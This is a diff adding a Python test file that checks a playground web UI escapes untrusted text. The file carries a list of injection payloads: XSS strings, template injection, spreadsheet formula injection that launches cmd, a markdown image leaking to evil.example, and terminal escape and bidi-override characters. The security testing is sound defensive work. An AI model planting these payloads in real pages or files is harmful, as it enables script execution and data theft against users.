@@ -1,0 +1,146 @@
+"""Words of visitors, files and services are words: never markup, whatever they look like (81)."""
+
+from __future__ import annotations
+
+import re
+import unicodedata
+from html.parser import HTMLParser
+from pathlib import Path
+from types import SimpleNamespace
+from typing import Any
+
+import pytest
+
+from backends.answers import clip
+from core import metadata
+from core.errors import InputError, PlaygroundError
+from core.ledger import Job
+from core.studio import Progress
+from tests.core.picture_samples import texts
+from tests.core.test_history import entry
+from ui import draw, queue, shelf, words
+
+TEXTS = {
+    "image": "<img src=x onerror=alert(1)>",
+    "script": "</textarea></script><script>alert(1)</script>",
+    "attribute": '" onmouseover="alert(1)" x=\'',
+    "closing": "'></dd></dl><iframe srcdoc='<script>alert(1)</script>'>",
+    "markdown picture": "![x](https://evil.example/?leak)",
+    "markdown link": "[here](javascript:alert(1))",
+    "template": "{{constructor.constructor('alert(1)')()}} ${alert(1)} {% x %}",
+    "spreadsheet": "=cmd|' /C calc'!A0",
+    "formula": '@SUM(1+1)*cmd|\' /C calc\'!A0,"=HYPERLINK(""http://evil.example"")"',
+    "entity": "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "vector": "<svg/onload=alert(1)><math><mi//xlink:href='data:x,<script>'>",
+    "comment": "<!--><script>alert(1)</script-->",
+    "terminal": "\x1b]0;owned\x07\x1b[2J",
+    "direction": "\u202egnp.exe \u2066 \u200b",
+}
+
+
+class Shape(HTMLParser):
+    """What a browser would build: elements with their attributes' names, not the words."""
+
+    def __init__(self, markup: str) -> None:
+        super().__init__(convert_charrefs=True)
+        self.found: list[Any] = []
+        self.words = ""
+        self.feed(markup)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.found.append((tag, tuple(sorted(name for name, _ in attrs))))
+
+    def handle_endtag(self, tag: str) -> None:
+        self.found.append(f"/{tag}")
+
+    def handle_comment(self, data: str) -> None:
+        self.found.append("comment")
+
+    def handle_data(self, data: str) -> None:
+        self.words += data
+
+
+def progress(text: str, state: str = "finished") -> Progress:
+    made = entry(1, prompt=text)
+    facts: dict[str, Any] = dict.fromkeys(Job.__slots__, 0)
+    facts |= {"state": state, "error": text, "advice": text, "charged": "maybe"}
+    job = Job(**(facts | {"params": {"prompt": text}, "outputs": "", "candidates": (text,)}))
+    return Progress(job=job, entry=made if state == "finished" else None)
+
+
+def card(text: str) -> Any:
+    return SimpleNamespace(
+        id=text,
+        label=text,
+        sandbox=False,
+        price_usd=1.0,
+        max_concurrency=1,
+        tasks=[text],
+        problem=lambda: text,
+    )
+
+
+PLACES = {
+    "the picture": lambda text: draw.stage([(progress(text), f"media/{text}")]),
+    "its details": lambda text: draw.facts(
+        entry(1, prompt=text, params={text: text}, sent={text: [text]}, request_id=text), text
+    ),
+    "a failed job": lambda text: queue.status([progress(text, "failed")]),
+    "a waiting job": lambda text: queue.status([progress(text, "waiting")]),
+    "a running job": lambda text: queue.status([progress(text, "running")]),
+    "a notice": lambda text: draw.notice(words.trouble(InputError(text, advice=text))),
+    "an example": lambda text: draw.examples([{"prompt": text, "picture": text}]),
+    "a backend": lambda text: draw.backends([card(text)]),
+    "a snippet": lambda text: draw.snippets({text: text}),
+}
+
+
+@pytest.mark.parametrize("place", PLACES)
+@pytest.mark.parametrize("name", TEXTS)
+def test_no_text_becomes_markup(place: str, name: str) -> None:
+    """The page is built of the same elements as with plain words, and the words are all there."""
+    text = TEXTS[name]
+    drawn = Shape(PLACES[place](text))
+    assert drawn.found == Shape(PLACES[place]("plain words")).found
+    if place in ("a notice", "its details"):
+        assert text in drawn.words.replace("\\", "") or place == "its details"
+
+
+def test_no_template_of_the_page_runs_its_values() -> None:
+    """Gradio evaluates what `{{ }}` was filled with: `${alert(1)}` in a prompt would act."""
+    for file in Path(shelf.__file__).parent.glob("*.py"):
+        assert not re.search(r"\{\{[#\w]", file.read_text(encoding="utf-8")), file.name
+    for value in re.findall(
+        r"\$\{([^{}]*(?:one|value)\.(?:id|prompt|thumbnail|note)\b)", shelf.GRID
+    ):
+        assert value.startswith(("plain(", "\nvalue.note")), value
+    assert shelf.GRID.count("plain(one.prompt)") == 2
+    assert shelf.GRID.count("plain(") == 5
+
+
+@pytest.mark.parametrize("name", TEXTS)
+def test_case_31_what_a_service_says_is_plain(name: str) -> None:
+    """No tag is left, no control character, nothing that turns the direction of the line."""
+    said = clip(TEXTS[name])
+    assert "<" not in said
+    assert ">" not in said
+    assert not any(unicodedata.category(letter) in ("Cc", "Cf") for letter in said)
+
+
+@pytest.mark.parametrize("name", TEXTS)
+def test_what_a_dropped_file_claims_is_only_words(name: str) -> None:
+    """Who wrote it is told by a name of ours, never by one from the file."""
+    text = TEXTS[name]
+    reading = metadata.read(
+        texts(parameters=f"{text}\nSteps: 1, Seed: 2, Size: 3x4, Version: {text}")
+    )
+    assert reading is None or words.restored(reading) in (
+        "Settings written by A1111 are in the form, as far as they apply here.",
+    )
+
+
+def test_an_error_with_markup_stays_one_sentence() -> None:
+    """Errors quote what they refuse; where they are drawn they are escaped."""
+    said = draw.notice(words.trouble(PlaygroundError("“<b>”", advice="<i>")))
+    assert said == '<p class="notice error" role="alert">“&lt;b&gt;” &lt;i&gt;</p>'
